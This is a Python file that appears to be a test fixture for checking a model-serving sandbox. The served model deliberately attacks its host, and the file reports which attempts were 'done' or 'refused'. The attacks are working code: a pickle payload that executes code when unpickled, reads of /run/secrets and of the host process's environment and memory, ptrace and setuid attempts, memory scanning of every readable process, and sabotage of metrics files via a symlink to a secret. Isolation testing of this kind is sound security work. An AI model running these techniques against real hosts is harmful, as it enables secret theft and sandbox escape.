"""A model that attacks its host, and tells what came of it."""

from __future__ import annotations

import ctypes
import errno
import inspect
import os
import signal
from collections.abc import Callable
from pathlib import Path
from typing import Any

from starlette.requests import Request

BOMBS = Path("/tmp/bombs")


class Bomb(Exception):
    """Whoever unpickles it notes who that was."""

    def __reduce__(self) -> Any:
        text = f"import os; open('{BOMBS}', 'a').write(f'{{os.getuid()}} {{os.getpid()}}\\n')"
        return exec, (text,)


class Attacks:
    def __init__(self) -> None:
        self.checks = -1
        """Since it was armed; -1 before."""

    async def __call__(self, request: Request) -> Any:
        match request.url.path.rpartition("/")[2]:
            case "arm":
                self._arm()
                return {"armed": os.getpid()}
            case "bombs":
                return self._bombs()
            case "wreck":
                return self._wreck()
            case "find":
                return self._find(await request.body())
        return self._look()

    def _bombs(self) -> list[str]:
        return BOMBS.read_text().split("\n") if BOMBS.exists() else []

    def _look(self) -> dict[str, Any]:
        host = _pid_of("-m", "serve_replica_host")
        runtime = _pid_of("-m", "serve_replica_host.ray_main")
        libc = ctypes.CDLL(None, use_errno=True)
        attempts: dict[str, Callable[[], Any]] = {
            **{f"read {path}": path.read_bytes for path in Path("/run/secrets").iterdir()},
            "read the host's environment": Path(f"/proc/{host}/environ").read_bytes,
            "read the host's memory": Path(f"/proc/{host}/mem").read_bytes,
            "list the host's descriptors": lambda: list(Path(f"/proc/{host}/fd").iterdir()),
            "signal the host": lambda: os.kill(host, 0),
            "stop the host": lambda: os.kill(host, signal.SIGSTOP),
            "signal the first process": lambda: os.kill(1, 0),
            "be root": lambda: os.setuid(0),
            "be the host": lambda: os.setuid(10001),
            "be in the host's group": lambda: os.setgid(10001),
            "write where the host makes its socket": lambda: Path("/tmp/ray-host/mine").write_text("x"),
            "rename the host's directory": lambda: Path("/tmp/ray-host").rename("/tmp/ray-mine"),
            "rename the directory of metrics": lambda: Path("/tmp/metrics").rename("/tmp/metrics-mine"),
            "write to the image": lambda: Path("/opt/muster/serve_replica_host/x.py").write_text(""),
        }
        said = {name: _attempted(attempt) for name, attempt in attempts.items()}
        said["trace the host"] = "done" if libc.ptrace(16, host, 0, 0) == 0 else "refused"
        status = Path("/proc/self/status").read_text()
        return {
            "attempts": said,
            "runtime": runtime,
            "uid": os.getresuid(),
            "groups": [*os.getresgid(), *os.getgroups()],
            "status": {line.split(":")[0]: line.split(":")[1].strip() for line in status.splitlines()},
            "environments": [
                Path(f"/proc/{pid}/environ").read_text(errors="replace") for pid in ("self", runtime)
            ],
        }

    def _find(self, needle: bytes) -> dict[str, int]:
        """How often ``needle`` is in the memory of each process that lets itself be read."""
        found = {}
        for process in Path("/proc").glob("[0-9]*"):
            if int(process.name) == os.getpid():
                continue
            try:
                maps = (process / "maps").read_text().splitlines()
                with (process / "mem").open("rb", buffering=0) as memory:
                    found[process.name] = sum(_count(memory, line, needle) for line in maps)
            except OSError:
                continue
        return found

    def _arm(self) -> None:
        from ray._private.worker import global_worker

        (actor,) = global_worker.actors.values()
        words = inspect.unwrap(type(actor).check_health).__globals__
        encode, started = words["encode"], actor._get_process
        self.checks = 0

        def check() -> Any:
            self.checks += 1
            if self.checks == 1:
                raise Bomb
            return started()

        actor._get_process = check
        words["encode"] = lambda outcome: encode(outcome) if self.checks != 2 else Bomb()

    def _wreck(self) -> list[str]:
        """Leave as much as can be left."""
        for name in ("counter_1.db", "gauge_livesum_2.db"):
            Path("/tmp/metrics", name).mkdir()
        Path("/tmp/metrics/counter_3.db").symlink_to("/run/secrets/nats_host")
        Path("/tmp/ray").rename("/tmp/ray-moved")
        Path("/tmp/ray").write_text("in the way")
        return [path.name for path in Path("/tmp").iterdir()]


def _attempted(attempt: Callable[[], Any]) -> str:
    try:
        attempt()
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES, errno.EROFS):
            return "refused"
        return f"{type(error).__name__}: {error}"
    return "done"


def _pid_of(*arguments: str) -> int:
    for process in Path("/proc").glob("[0-9]*"):
        try:
            words = (process / "cmdline").read_text().split("\0")
        except OSError:
            continue
        if tuple(words[1:3]) == arguments:
            return int(process.name)
    raise LookupError(arguments)


def _count(memory: Any, line: str, needle: bytes) -> int:
    place, rights, *_ = line.split()
    low, high = (int(end, 16) for end in place.split("-"))
    if not rights.startswith("rw") or high - low > 256 * 1024 * 1024:
        return 0
    try:
        memory.seek(low)
        return bytes(memory.read(high - low)).count(needle)
    except (OSError, OverflowError, ValueError):
        return 0
